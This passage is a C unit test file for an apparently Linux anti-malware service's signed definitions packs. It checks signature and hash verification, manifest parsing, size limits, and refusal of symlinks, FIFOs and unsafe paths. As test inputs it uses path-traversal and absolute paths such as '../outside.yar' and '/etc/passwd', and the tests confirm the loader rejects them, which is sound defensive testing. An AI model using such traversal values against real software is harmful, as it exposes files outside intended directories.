/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Unit tests of service/definitions: pack verification (signature, hashes, paths, symlinks,
 * FIFOs, limits), manifest and hash-list parsing, versions, the store (install, fallback, crash
 * leftovers, restore), the mdatp-pack tool, and the shipped default pack and its YARA rules.
 *
 * Keys are generated at test time (and the committed test key is used where the shipped pack is
 * concerned). Every test works in its own temporary directory.
 *
 * Samples of malicious-looking content are assembled at run time from split literals, so that
 * this source file matches none of the default rules (a test checks that too).
 */

#include <check.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <limits.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <openssl/err.h>
#include <openssl/evp.h>
#include <openssl/pem.h>
#include <yara.h>

#include "definitions-config.h"
#include "definitions/definitions-internal.h"
#include "definitions/definitions.h"
#include "util/fileio.h"
#include "util/macro.h"
#include "util/strv.h"
#include "../sample.h"

#define ENGINE "0.1.0"
#define SHA_1 "1111111111111111111111111111111111111111111111111111111111111111"
#define SHA_F "ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff"
#define SHA_A "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"

#define RULE_A "rule unit_test_a\n{\n    strings:\n        $a = \"mdatp-unit-test-a\"\n" \
               "    condition:\n        $a\n}\n"
#define RULE_B "rule unit_test_b\n{\n    condition:\n        filesize == 3\n}\n"
#define HASHES_A "# unit test list\n\n" \
                 SHA_F "\tPUA:Linux/UnitTest.F\tpotentially_unwanted_application\n" \
                 SHA_1 "\tVirus:Linux/UnitTest.One\tvirus\n"

static EVP_PKEY *key_a, *key_b, *pub_a, *pub_b;
static char tmpdir[256];

/* A path below the test's temporary directory. Up to 16 live at once. */
static const char *P(const char *format, ...) _printf_(1, 2);
static const char *P(const char *format, ...) {
        static char ring[16][PATH_MAX];
        static unsigned next;
        char *buf = ring[next++ % ELEMENTSOF(ring)], rel[1024];
        va_list ap;

        va_start(ap, format);
        vsnprintf(rel, sizeof(rel), format, ap);
        va_end(ap);
        snprintf(buf, PATH_MAX, "%s/%s", tmpdir, rel);
        return buf;
}

static void setup_tmp(void) {
        snprintf(tmpdir, sizeof(tmpdir), "%s/test-definitions-XXXXXX", getenv("TMPDIR") ?: "/tmp");
        ck_assert_ptr_nonnull(mkdtemp(tmpdir));
}

static void teardown_tmp(void) {
        ck_assert_int_eq(definition_rm_rf_at(AT_FDCWD, tmpdir), 0);
}

static void mkdir_p(const char *path) {
        char buf[PATH_MAX];

        snprintf(buf, sizeof(buf), "%s", path);
        for (char *s = buf + 1; *s; s++)
                if (*s == '/') {
                        *s = '\0';
                        ck_assert(mkdir(buf, 0755) == 0 || errno == EEXIST);
                        *s = '/';
                }
        ck_assert(mkdir(buf, 0755) == 0 || errno == EEXIST);
}

static void write_file(const char *path, const void *data, size_t size) {
        char dir[PATH_MAX];
        FILE *f;

        snprintf(dir, sizeof(dir), "%s", path);
        *strrchr(dir, '/') = '\0';
        mkdir_p(dir);
        f = fopen(path, "we");
        ck_assert_ptr_nonnull(f);
        ck_assert_uint_eq(fwrite(data, 1, size, f), size);
        ck_assert_int_eq(fclose(f), 0);
}

static void write_string(const char *path, const char *s) {
        write_file(path, s, strlen(s));
}

static char *read_whole(const char *path, size_t *ret_size) {
        _cleanup_close_ int fd = open(path, O_RDONLY | O_CLOEXEC);
        char *data = NULL;

        ck_assert_int_ge(fd, 0);
        ck_assert_int_eq(read_fd_full(fd, 0, 64 * 1024 * 1024, &data, ret_size), 0);
        return data;
}

/* The public half of k; NULL on failure. Runs outside tests too (main), so no ck_assert. */
static EVP_PKEY *public_of(EVP_PKEY *k) {
        uint8_t raw[DEFINITIONS_PUBLIC_KEY_SIZE];
        size_t len = sizeof(raw);
        EVP_PKEY *p = NULL;

        if (EVP_PKEY_get_raw_public_key(k, raw, &len) != 1 ||
            definitions_public_key_from_raw(raw, &p) < 0)
                return NULL;
        return p;
}

static void write_signed_manifest(const char *dir, const char *text, size_t size,
                                  EVP_PKEY *signer) {
        uint8_t sig[DEFINITIONS_SIGNATURE_SIZE];
        char path[PATH_MAX];

        snprintf(path, sizeof(path), "%s/manifest.json", dir);
        write_file(path, text, size);
        ck_assert_int_eq(definition_signature_create(signer, text, size, sig), 0);
        snprintf(path, sizeof(path), "%s/manifest.json.sig", dir);
        write_file(path, sig, sizeof(sig));
}

typedef struct TestFile {
        const char *path;
        DefinitionFileKind kind;
        const char *content;
} TestFile;

/* Writes a pack signed by signer into dir. */
static void make_pack(const char *dir, EVP_PKEY *signer, const char *version,
                      const char *min_engine, const TestFile *files, size_t n) {
        DefinitionManifestFile mf[16] = {};
        DefinitionManifest m = {
                .version = (char *) version,
                .created_usec = UINT64_C(1795392000) * 1000000,
                .minimum_engine_version = (char *) min_engine,
                .files = mf,
                .n_files = n,
        };
        _cleanup_free_ char *text = NULL;
        size_t size;

        ck_assert_uint_le(n, ELEMENTSOF(mf));
        mkdir_p(dir);
        for (size_t i = 0; i < n; i++) {
                char path[PATH_MAX];

                snprintf(path, sizeof(path), "%s/%s", dir, files[i].path);
                write_string(path, files[i].content);
                mf[i] = (DefinitionManifestFile) {
                        .path = (char *) files[i].path,
                        .kind = files[i].kind,
                        .size = strlen(files[i].content),
                };
                definition_sha256(files[i].content, strlen(files[i].content), mf[i].sha256);
        }
        ck_assert_int_eq(definition_manifest_format(&m, &text, &size), 0);
        write_signed_manifest(dir, text, size, signer);
}

static const TestFile standard_files[] = {
        { "rules/a.yar", DEFINITION_FILE_YARA, RULE_A },
        { "hashes/a.tsv", DEFINITION_FILE_SHA256_LIST, HASHES_A },
};

static void make_standard_pack(const char *dir, EVP_PKEY *signer, const char *version) {
        make_pack(dir, signer, version, ENGINE, standard_files, ELEMENTSOF(standard_files));
}

/* Loads dir with pub_a expecting error, and a message that contains needle. */
static void load_fails(const char *dir, int error, const char *needle) {
        _cleanup_(definition_pack_freep) DefinitionPack *p = NULL;
        _cleanup_free_ char *message = NULL;
        int r;

        r = definitions_pack_load(dir, pub_a, ENGINE, &p, &message);
        ck_assert_msg(r == error, "load returned %d (%s), expected %d", r, strnull(message),
                      error);
        ck_assert_ptr_null(p);
        ck_assert_ptr_nonnull(message);
        ck_assert_msg(strstr(message, needle), "message '%s' lacks '%s'", message, needle);
}

static DefinitionPack *load_ok(const char *dir, EVP_PKEY *key) {
        _cleanup_free_ char *message = NULL;
        DefinitionPack *p = NULL;
        int r;

        r = definitions_pack_load(dir, key, ENGINE, &p, &message);
        ck_assert_msg(r == 0, "load failed: %d %s", r, strnull(message));
        ck_assert_ptr_nonnull(p);
        return p;
}

/* ---------------------------------------------------------------------------------------- */
/* Loading packs */

START_TEST(test_good_pack) {
        _cleanup_(definition_pack_freep) DefinitionPack *p = NULL;
        char hex[65];

        make_standard_pack(P("pack"), key_a, "1.2.3.4");
        p = load_ok(P("pack"), pub_a);

        ck_assert_str_eq(p->version, "1.2.3.4");
        ck_assert_str_eq(p->minimum_engine_version, ENGINE);
        ck_assert_uint_eq(p->created_usec, UINT64_C(1795392000) * 1000000);
        ck_assert_uint_eq(p->n_rules, 1);
        ck_assert_str_eq(p->rules[0].name, "rules/a.yar");
        ck_assert_str_eq(p->rules[0].text, RULE_A);
        ck_assert_uint_eq(p->rules[0].size, strlen(RULE_A));

        /* Sorted by SHA-256, though the file lists them the other way round. */
        ck_assert_uint_eq(p->n_hashes, 2);
        definition_sha256_to_hex(p->hashes[0].sha256, hex);
        ck_assert_str_eq(hex, SHA_1);
        ck_assert_str_eq(p->hashes[0].name, "Virus:Linux/UnitTest.One");
        ck_assert_str_eq(p->hashes[0].type, "virus");
        definition_sha256_to_hex(p->hashes[1].sha256, hex);
        ck_assert_str_eq(hex, SHA_F);
        ck_assert_str_eq(p->hashes[1].name, "PUA:Linux/UnitTest.F");
        ck_assert_str_eq(p->hashes[1].type, "potentially_unwanted_application");
}
END_TEST

START_TEST(test_load_at_and_raw_key) {
        _cleanup_(definition_pack_freep) DefinitionPack *p = NULL;
        _cleanup_close_ int fd = -EBADF;

        make_standard_pack(P("pack"), key_a, "1");
        fd = open(P("pack"), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        ck_assert_int_ge(fd, 0);
        ck_assert_int_eq(definitions_pack_load_at(fd, pub_a, ENGINE, &p, NULL), 0);
        ck_assert_str_eq(p->version, "1");

        /* The private key works as well (its public half verifies). */
        p = definition_pack_free(p);
        ck_assert_int_eq(definitions_pack_load_at(fd, key_a, ENGINE, &p, NULL), 0);
}
END_TEST

START_TEST(test_bad_signature) {
        _cleanup_free_ char *sig = NULL;
        size_t size;

        make_standard_pack(P("pack"), key_a, "1.0");
        sig = read_whole(P("pack/manifest.json.sig"), &size);
        ck_assert_uint_eq(size, 64);
        sig[10] ^= 0x01;
        write_file(P("pack/manifest.json.sig"), sig, size);
        load_fails(P("pack"), -EKEYREJECTED,
                   "manifest.json.sig: signature does not verify with the installed key");
}
END_TEST

START_TEST(test_tampered_manifest) {
        _cleanup_free_ char *text = NULL;
        char *v;
        size_t size;

        make_standard_pack(P("pack"), key_a, "1.0.0.1");
        text = read_whole(P("pack/manifest.json"), &size);
        v = strstr(text, "1.0.0.1");
        ck_assert_ptr_nonnull(v);
        v[6] = '9';             /* a newer version, without re-signing */
        write_file(P("pack/manifest.json"), text, size);
        load_fails(P("pack"), -EKEYREJECTED, "signature does not verify");
}
END_TEST

START_TEST(test_wrong_key) {
        make_standard_pack(P("pack"), key_b, "1.0");
        load_fails(P("pack"), -EKEYREJECTED,
                   "manifest.json.sig: signature does not verify with the installed key");
        /* ...and it does verify with the right one. */
        definition_pack_free(load_ok(P("pack"), pub_b));
}
END_TEST

START_TEST(test_signature_missing_or_malformed) {
        _cleanup_free_ char *sig = NULL;
        size_t size;

        make_standard_pack(P("pack"), key_a, "1.0");
        sig = read_whole(P("pack/manifest.json.sig"), &size);

        write_file(P("pack/manifest.json.sig"), sig, 63);
        load_fails(P("pack"), -EBADMSG, "manifest.json.sig: not a raw 64-byte Ed25519");
        write_file(P("pack/manifest.json.sig"), "x", 0);
        load_fails(P("pack"), -EBADMSG, "manifest.json.sig: not a raw 64-byte Ed25519");
        sig = realloc(sig, 65);
        ck_assert_ptr_nonnull(sig);
        sig[64] = '\n';
        write_file(P("pack/manifest.json.sig"), sig, 65);
        load_fails(P("pack"), -EBADMSG, "manifest.json.sig: not a raw 64-byte Ed25519");

        ck_assert_int_eq(unlink(P("pack/manifest.json.sig")), 0);
        load_fails(P("pack"), -ENOENT, "manifest.json.sig: missing (the pack is not signed)");
        ck_assert_int_eq(unlink(P("pack/manifest.json")), 0);
        load_fails(P("pack"), -ENOENT, "manifest.json: missing");
}
END_TEST

START_TEST(test_tampered_rule_file) {
        _cleanup_free_ char *text = NULL;
        size_t size;

        make_standard_pack(P("pack"), key_a, "1.0");
        text = read_whole(P("pack/rules/a.yar"), &size);
        text[size - 3] = 'X';           /* same size, different bytes */
        write_file(P("pack/rules/a.yar"), text, size);
        load_fails(P("pack"), -EBADMSG, "rules/a.yar: SHA-256 mismatch");

        write_file(P("pack/rules/a.yar"), text, size - 1);
        load_fails(P("pack"), -EBADMSG, "rules/a.yar: size does not match the manifest's");
        write_string(P("pack/rules/a.yar"), RULE_A "// appended\n");
        load_fails(P("pack"), -EBADMSG, "rules/a.yar: size does not match the manifest's");

        write_string(P("pack/rules/a.yar"), RULE_A);
        write_string(P("pack/hashes/a.tsv"), HASHES_A "\n");
        load_fails(P("pack"), -EBADMSG, "hashes/a.tsv: size does not match");
}
END_TEST

START_TEST(test_missing_file) {
        make_standard_pack(P("pack"), key_a, "1.0");
        ck_assert_int_eq(unlink(P("pack/rules/a.yar")), 0);
        load_fails(P("pack"), -ENOENT, "rules/a.yar: listed in the manifest but missing");
        ck_assert_int_eq(rmdir(P("pack/rules")), 0);
        load_fails(P("pack"), -ENOENT, "rules/a.yar: listed in the manifest but missing");
}
END_TEST

START_TEST(test_extra_file_ignored) {
        _cleanup_(definition_pack_freep) DefinitionPack *p = NULL;

        make_standard_pack(P("pack"), key_a, "1.0");
        write_string(P("pack/rules/extra.yar"), "rule extra { condition: true }\n");
        write_string(P("pack/hashes/extra.tsv"), "not even a valid list\n");
        write_string(P("pack/README"), "hello\n");
        ck_assert_int_eq(symlink("/etc/passwd", P("pack/link")), 0);
        p = load_ok(P("pack"), pub_a);
        ck_assert_uint_eq(p->n_rules, 1);
        ck_assert_str_eq(p->rules[0].name, "rules/a.yar");
        ck_assert_uint_eq(p->n_hashes, 2);
}
END_TEST

/* A signed manifest listing one file at path (with the right hash of content). */
static void make_pack_listing(const char *dir, const char *path, const char *content) {
        char sha[65], text[2048];
        uint8_t d[32];

        definition_sha256(content, strlen(content), d);
        definition_sha256_to_hex(d, sha);
        snprintf(text, sizeof(text),
                 "{\n  \"format\": 1,\n  \"version\": \"1.0\",\n"
                 "  \"created\": \"2026-11-23T00:00:00Z\",\n"
                 "  \"minimumEngineVersion\": \"0.1.0\",\n  \"files\": [\n"
                 "    { \"path\": \"%s\", \"sha256\": \"%s\", \"kind\": \"yara\", \"size\": %zu }\n"
                 "  ]\n}\n", path, sha, strlen(content));
        mkdir_p(dir);
        write_signed_manifest(dir, text, strlen(text), key_a);
}

START_TEST(test_path_dotdot_and_absolute) {
        /* The file really exists where ".." points: the path is refused, not just not found. */
        write_string(P("outside.yar"), RULE_A);
        make_pack_listing(P("pack"), "../outside.yar", RULE_A);
        load_fails(P("pack"), -EBADMSG, "manifest.json:7:15: file 1: path '../outside.yar' "
                   "contains '..'");

        mkdir_p(P("pack/rules"));
        make_pack_listing(P("pack"), "rules/../../outside.yar", RULE_A);
        load_fails(P("pack"), -EBADMSG, "contains '..'");

        make_pack_listing(P("pack"), P("outside.yar"), RULE_A);
        load_fails(P("pack"), -EBADMSG, "is an absolute path");
}
END_TEST

START_TEST(test_symlink_as_file) {
        make_standard_pack(P("pack"), key_a, "1.0");
        /* Same content, so only the symlink itself can be the reason for refusal. */
        write_string(P("real.yar"), RULE_A);
        ck_assert_int_eq(unlink(P("pack/rules/a.yar")), 0);
        ck_assert_int_eq(symlink(P("real.yar"), P("pack/rules/a.yar")), 0);
        load_fails(P("pack"), -ELOOP, "rules/a.yar: is a symbolic link");

        /* A dangling one too. */
        ck_assert_int_eq(unlink(P("pack/rules/a.yar")), 0);
        ck_assert_int_eq(symlink("nowhere", P("pack/rules/a.yar")), 0);
        load_fails(P("pack"), -ELOOP, "is a symbolic link");
}
END_TEST

START_TEST(test_symlink_as_directory) {
        make_standard_pack(P("pack"), key_a, "1.0");
        ck_assert_int_eq(rename(P("pack/rules"), P("elsewhere")), 0);
        ck_assert_int_eq(symlink(P("elsewhere"), P("pack/rules")), 0);
        load_fails(P("pack"), -ELOOP, "rules/a.yar: 'rules' is a symbolic link");

        /* A file where a directory should be. */
        ck_assert_int_eq(unlink(P("pack/rules")), 0);
        write_string(P("pack/rules"), "x");
        load_fails(P("pack"), -ENOTDIR, "rules/a.yar: 'rules' is not a directory");
}
END_TEST

START_TEST(test_fifo_does_not_block) {
        make_standard_pack(P("pack"), key_a, "1.0");
        ck_assert_int_eq(unlink(P("pack/rules/a.yar")), 0);
        ck_assert_int_eq(mkfifo(P("pack/rules/a.yar"), 0644), 0);
        /* Opening a FIFO without a writer would block forever; the test timeout catches that. */
        alarm(20);
        load_fails(P("pack"), -EBADFD, "rules/a.yar: not a regular file");

        /* The manifest itself as a FIFO. */
        ck_assert_int_eq(unlink(P("pack/manifest.json")), 0);
        ck_assert_int_eq(mkfifo(P("pack/manifest.json"), 0644), 0);
        load_fails(P("pack"), -EBADFD, "manifest.json: not a regular file");
        alarm(0);
}
END_TEST

START_TEST(test_oversized_manifest) {
        size_t size = DEFINITIONS_MANIFEST_MAX_SIZE + 1;
        _cleanup_(definition_manifest_freep) DefinitionManifest *m = NULL;
        _cleanup_free_ char *text = malloc(size), *message = NULL;
        const char *body = "{\"format\": 1}";

        ck_assert_ptr_nonnull(text);
        /* Leading blanks, then a tiny document: valid JSON, but over the limit. */
        memset(text, ' ', size);
        memcpy(text + size - strlen(body), body, strlen(body));
        mkdir_p(P("pack"));
        write_signed_manifest(P("pack"), text, size, key_a);
        load_fails(P("pack"), -E2BIG, "manifest.json: larger than the limit of 1048576 bytes");

        ck_assert_int_eq(definition_manifest_parse(text, size, &m, &message), -E2BIG);
        ck_assert_ptr_nonnull(strstr(message, "larger than the limit"));
}
END_TEST

START_TEST(test_malformed_manifest_located) {
        const char *text = "{\n"
                           "  \"format\": 1,\n"
                           "  \"version\": \"1.0\"\n"
                           "  \"created\": \"2026-11-23T00:00:00Z\"\n"
                           "}\n";

        mkdir_p(P("pack"));
        write_signed_manifest(P("pack"), text, strlen(text), key_a);
        load_fails(P("pack"), -EBADMSG, "manifest.json:4:11: parse error");
}
END_TEST

START_TEST(test_minimum_engine_too_new) {
        make_pack(P("pack"), key_a, "1.0", "0.1.1", standard_files, ELEMENTSOF(standard_files));
        load_fails(P("pack"), -EPROTONOSUPPORT,
                   "manifest.json: the pack needs engine version 0.1.1 or newer; this engine is "
                   "0.1.0");

        /* Equal and older are fine; "0.1" == "0.1.0". */
        make_pack(P("pack2"), key_a, "1.0", "0.1", standard_files, ELEMENTSOF(standard_files));
        definition_pack_free(load_ok(P("pack2"), pub_a));
}
END_TEST

START_TEST(test_yara_with_nul) {
        static const char bad[] = "rule x {\0condition: true }\n";
        char sha[65], manifest[1024];
        uint8_t d[32];

        /* A correctly signed and hashed file that has a NUL in it. */
        definition_sha256(bad, sizeof(bad) - 1, d);
        definition_sha256_to_hex(d, sha);
        snprintf(manifest, sizeof(manifest),
                 "{\"format\":1,\"version\":\"1\",\"created\":\"2026-11-23T00:00:00Z\","
                 "\"minimumEngineVersion\":\"0.1\",\"files\":[{\"path\":\"rules/a.yar\","
                 "\"sha256\":\"%s\",\"kind\":\"yara\",\"size\":%zu}]}", sha, sizeof(bad) - 1);
        write_file(P("pack/rules/a.yar"), bad, sizeof(bad) - 1);
        write_signed_manifest(P("pack"), manifest, strlen(manifest), key_a);
        load_fails(P("pack"), -EBADMSG, "rules/a.yar: contains a NUL byte");
}
END_TEST

START_TEST(test_hash_duplicate_across_files) {
        static const TestFile files[] = {
                { "hashes/a.tsv", DEFINITION_FILE_SHA256_LIST, HASHES_A },
                { "hashes/b.tsv", DEFINITION_FILE_SHA256_LIST,
                  "# b\n" SHA_A "\tVirus:Linux/B\tvirus\n" SHA_1 "\tVirus:Linux/Again\tvirus\n" },
        };

        make_pack(P("pack"), key_a, "1.0", ENGINE, files, 2);
        load_fails(P("pack"), -EBADMSG, "hashes/b.tsv:3: SHA-256 " SHA_1
                   " is already listed in hashes/a.tsv:4");
}
END_TEST

START_TEST(test_bad_hash_list_in_pack) {
        static const TestFile files[] = {
                { "hashes/a.tsv", DEFINITION_FILE_SHA256_LIST,
                  SHA_1 "\tVirus:Linux/Ok\tvirus\n" SHA_A " Virus:Linux/Spaces virus\n" },
        };

        make_pack(P("pack"), key_a, "1.0", ENGINE, files, 1);
        load_fails(P("pack"), -EBADMSG, "hashes/a.tsv:2: expected 3 TAB-separated fields");
}
END_TEST

/* ---------------------------------------------------------------------------------------- */
/* Manifest parsing */

#define M_HEAD "{\n  \"format\": 1,\n  \"version\": \"1.0\",\n" \
               "  \"created\": \"2026-11-23T00:00:00Z\",\n" \
               "  \"minimumEngineVersion\": \"0.1.0\",\n  \"files\": [\n"
#define M_TAIL "\n  ]\n}\n"
#define M_FILE(path, sha, kind, size) \
        "    { \"path\": " path ", \"sha256\": " sha ", \"kind\": " kind ", \"size\": " size " }"
#define M_OK_FILE M_FILE("\"rules/a.yar\"", "\"" SHA_A "\"", "\"yara\"", "10")

typedef struct ManifestCase {
        const char *text;
        int error;
        const char *message;    /* expected prefix of the message */
} ManifestCase;

static const ManifestCase manifest_cases[] = {
        { M_HEAD M_OK_FILE M_TAIL, 0, NULL },
        { M_HEAD M_OK_FILE ",\n" M_FILE("\"hashes/x.tsv\"", "\"" SHA_F "\"", "\"sha256-list\"", "0")
          M_TAIL, 0, NULL },
        /* Unknown members are ignored. */
        { "{\"format\":1,\"version\":\"2\",\"created\":\"2026-01-01T00:00:00.5Z\",\"comment\":"
          "[1,2],\"minimumEngineVersion\":\"0\",\"files\":[{\"path\":\"a.yar\",\"sha256\":\""
          SHA_A "\",\"kind\":\"yara\",\"size\":0,\"note\":null}]}", 0, NULL },

        { "[]", -EBADMSG, "manifest.json:1:1: expected an object, found array" },
        { "{}", -EBADMSG, "manifest.json:1:1: manifest: missing \"format\"" },
        { "{\"format\": 2, \"version\": 7}", -EPROTONOSUPPORT,
          "manifest.json:1:12: format 2 is not supported (this engine reads format 1)" },
        { "{\"format\": \"1\"}", -EBADMSG,
          "manifest.json:1:12: \"format\": expected an integer, found string" },
        { "{\"format\": 1.0}", -EBADMSG, "manifest.json:1:12: \"format\": expected an integer" },
        { "{\"format\": 1}", -EBADMSG, "manifest.json:1:1: manifest: missing \"version\"" },
        { "{\"format\": 1, \"version\": \"1.02\"}", -EBADMSG,
          "manifest.json:1:26: \"version\": '1.02' is not a version" },
        { "{\"format\": 1, \"version\": \"1..2\"}", -EBADMSG, "is not a version" },
        { "{\"format\": 1, \"version\": \"v1\"}", -EBADMSG, "is not a version" },
        { "{\"format\": 1, \"version\": \"1\", \"created\": \"2026-13-01T00:00:00Z\"}", -EBADMSG,
          "manifest.json:1:42: \"created\": '2026-13-01T00:00:00Z' is not an RFC 3339" },
        { "{\"format\": 1, \"version\": \"1\", \"created\": \"2026-11-23T00:00:00+01:00\"}",
          -EBADMSG, "is not an RFC 3339 UTC time" },
        { "{\"format\": 1, \"version\": \"1\", \"created\": \"2026-11-23T00:00:00Z\", "
          "\"minimumEngineVersion\": 1}", -EBADMSG,
          "\"minimumEngineVersion\": expected a string, found integer" },
        { M_HEAD M_TAIL, -EBADMSG, "manifest.json:6:12: \"files\": the pack lists no files" },
        { "{\"format\": 1, \"version\": \"1\", \"created\": \"2026-11-23T00:00:00Z\", "
          "\"minimumEngineVersion\": \"0.1\", \"files\": {}}", -EBADMSG,
          "\"files\": expected an array, found object" },
        { M_HEAD "    \"rules/a.yar\"" M_TAIL, -EBADMSG,
          "manifest.json:7:5: file 1: expected an object, found string" },
        { M_HEAD M_FILE("\"../x.yar\"", "\"" SHA_A "\"", "\"yara\"", "1") M_TAIL, -EBADMSG,
          "manifest.json:7:15: file 1: path '../x.yar' contains '..'" },
        { M_HEAD M_FILE("\"/etc/passwd\"", "\"" SHA_A "\"", "\"yara\"", "1") M_TAIL, -EBADMSG,
          "manifest.json:7:15: file 1: path '/etc/passwd' is an absolute path" },
        { M_HEAD M_FILE("\"rules//a.yar\"", "\"" SHA_A "\"", "\"yara\"", "1") M_TAIL, -EBADMSG,
          "has an empty component" },
        { M_HEAD M_FILE("\"rules/a.yar/\"", "\"" SHA_A "\"", "\"yara\"", "1") M_TAIL, -EBADMSG,
          "has an empty component" },
        { M_HEAD M_FILE("\"./a.yar\"", "\"" SHA_A "\"", "\"yara\"", "1") M_TAIL, -EBADMSG,
          "has a '.' component" },
        { M_HEAD M_FILE("\"rules/.hidden\"", "\"" SHA_A "\"", "\"yara\"", "1") M_TAIL, -EBADMSG,
          "has a component starting with '.'" },
        { M_HEAD M_FILE("\"rules/a b.yar\"", "\"" SHA_A "\"", "\"yara\"", "1") M_TAIL, -EBADMSG,
          "contains a character other than" },
        { M_HEAD M_FILE("\"rules/a\\u0001.yar\"", "\"" SHA_A "\"", "\"yara\"", "1") M_TAIL,
          -EBADMSG, "path 'rules/a\\x01.yar' contains a character" },
        { M_HEAD M_FILE("\"\"", "\"" SHA_A "\"", "\"yara\"", "1") M_TAIL, -EBADMSG, "is empty" },
        { M_HEAD M_FILE("\"a/b/c/d/e/f/g/h/i\"", "\"" SHA_A "\"", "\"yara\"", "1") M_TAIL,
          -EBADMSG, "has more than 8 components" },
        { M_HEAD M_FILE("\"manifest.json\"", "\"" SHA_A "\"", "\"yara\"", "1") M_TAIL, -EBADMSG,
          "names the manifest or its signature" },
        { M_HEAD M_OK_FILE ",\n" M_OK_FILE M_TAIL, -EBADMSG,
          "manifest.json:8:5: file 2: path 'rules/a.yar' is listed twice (also file 1)" },
        { M_HEAD M_FILE("\"rules/a.yar/b\"", "\"" SHA_A "\"", "\"yara\"", "1") ",\n" M_OK_FILE
          M_TAIL, -EBADMSG, "manifest.json:7:5: file 1: path 'rules/a.yar/b' is inside "
          "'rules/a.yar', which is listed as a file (file 2)" },
        { M_HEAD M_FILE("\"a.yar\"", "\"abc\"", "\"yara\"", "1") M_TAIL, -EBADMSG,
          "manifest.json:7:34: file 1: sha256 'abc' is not 64 hex digits" },
        { M_HEAD M_FILE("\"a.yar\"", "\"" SHA_A "0\"", "\"yara\"", "1") M_TAIL, -EBADMSG,
          "is not 64 hex digits" },
        { M_HEAD M_FILE("\"a.yar\"", "\"" SHA_A "\"", "\"compiled-yara\"", "1") M_TAIL,
          -EBADMSG, "file 1: kind 'compiled-yara' is not one of: yara, sha256-list" },
        { M_HEAD M_FILE("\"a.yar\"", "\"" SHA_A "\"", "\"yara\"", "-1") M_TAIL, -EBADMSG,
          "file 1: size is negative" },
        { M_HEAD M_FILE("\"a.yar\"", "\"" SHA_A "\"", "\"yara\"", "\"1\"") M_TAIL, -EBADMSG,
          "\"size\": expected an integer, found string" },
        { M_HEAD M_FILE("\"a.yar\"", "\"" SHA_A "\"", "\"yara\"", "67108865") M_TAIL, -E2BIG,
          "file 1: size 67108865 is over the limit of 67108864 bytes" },
        { M_HEAD "    { \"path\": \"a.yar\", \"kind\": \"yara\", \"size\": 1 }" M_TAIL, -EBADMSG,
          "manifest.json:7:5: file 1: missing \"sha256\"" },
        { "{\"format\": 1, \"format\": 1}", -EBADMSG, "manifest.json:1:" },
        { "{\"format\": 1,", -EBADMSG, "manifest.json:1:" },
        { "", -EBADMSG, "manifest.json:1:1: " },
};

START_TEST(test_manifest_cases) {
        const ManifestCase *c = &manifest_cases[_i];
        _cleanup_(definition_manifest_freep) DefinitionManifest *m = NULL;
        _cleanup_free_ char *message = NULL;
        int r;

        r = definition_manifest_parse(c->text, strlen(c->text), &m, &message);
        ck_assert_msg(r == c->error, "case %d: returned %d (%s), expected %d", _i, r,
                      strnull(message), c->error);
        if (c->error == 0) {
                _cleanup_(definition_manifest_freep) DefinitionManifest *again = NULL;
                _cleanup_free_ char *text = NULL;
                size_t size;

                ck_assert_ptr_nonnull(m);
                /* Round trip through the writer. */
                ck_assert_int_eq(definition_manifest_format(m, &text, &size), 0);
                ck_assert_int_eq(definition_manifest_parse(text, size, &again, NULL), 0);
                ck_assert_str_eq(again->version, m->version);
                ck_assert_uint_eq(again->created_usec, m->created_usec);
                ck_assert_uint_eq(again->n_files, m->n_files);
                for (size_t i = 0; i < m->n_files; i++) {
                        ck_assert_str_eq(again->files[i].path, m->files[i].path);
                        ck_assert_int_eq(again->files[i].kind, m->files[i].kind);
                        ck_assert_uint_eq(again->files[i].size, m->files[i].size);
                        ck_assert_mem_eq(again->files[i].sha256, m->files[i].sha256, 32);
                }
                return;
        }
        ck_assert_ptr_null(m);
        ck_assert_ptr_nonnull(message);
        ck_assert_msg(strneq(message, c->message, strlen(c->message)) ||
                      (c->message[0] != 'm' && strstr(message, c->message)),
                      "case %d: message '%s', expected '%s'", _i, message, c->message);
}
END_TEST

START_TEST(test_manifest_limits) {
        _cleanup_(definition_manifest_freep) DefinitionManifest *m = NULL;
        _cleanup_free_ char *text = NULL, *message = NULL;
        size_t size = 0;
        FILE *f;

        /* DEFINITIONS_MAX_FILES + 1 entries. */
        f = open_memstream(&text, &size);
        ck_assert_ptr_nonnull(f);
        fputs("{\"format\":1,\"version\":\"1\",\"created\":\"2026-11-23T00:00:00Z\","
              "\"minimumEngineVersion\":\"0\",\"files\":[", f);
        for (int i = 0; i <= DEFINITIONS_MAX_FILES; i++)
                fprintf(f, "%s{\"path\":\"f%d\",\"sha256\":\"%s\",\"kind\":\"yara\",\"size\":1}",
                        i ? "," : "", i, SHA_A);
        fputs("]}", f);
        ck_assert_int_eq(fclose(f), 0);
        ck_assert_int_eq(definition_manifest_parse(text, size, &m, &message), -E2BIG);
        ck_assert_ptr_nonnull(strstr(message, "4097 files, over the limit of 4096"));

        /* Five files of 64 MiB add up to more than 256 MiB. */
        free(text);
        text = NULL;
        message = mfree(message);
        f = open_memstream(&text, &size);
        ck_assert_ptr_nonnull(f);
        fputs("{\"format\":1,\"version\":\"1\",\"created\":\"2026-11-23T00:00:00Z\","
              "\"minimumEngineVersion\":\"0\",\"files\":[", f);
        for (int i = 0; i < 5; i++)
                fprintf(f, "%s{\"path\":\"f%d\",\"sha256\":\"%s\",\"kind\":\"yara\",\"size\":%"
                        PRIu64 "}", i ? "," : "", i, SHA_A, DEFINITIONS_FILE_MAX_SIZE);
        fputs("]}", f);
        ck_assert_int_eq(fclose(f), 0);
        ck_assert_int_eq(definition_manifest_parse(text, size, &m, &message), -E2BIG);
        ck_assert_ptr_nonnull(strstr(message, "file 5: the files add up to more than"));
}
END_TEST

START_TEST(test_manifest_format_refuses_invalid) {
        DefinitionManifestFile f = { .path = (char *) "../x", .kind = DEFINITION_FILE_YARA };
        DefinitionManifest m = {
                .version = (char *) "1", .minimum_engine_version = (char *) "0",
                .files = &f, .n_files = 1,
        };
        char *text = NULL;

        ck_assert_int_eq(definition_manifest_format(&m, &text, NULL), -EINVAL);
        f.path = (char *) "ok";
        m.version = (char *) "1\"";
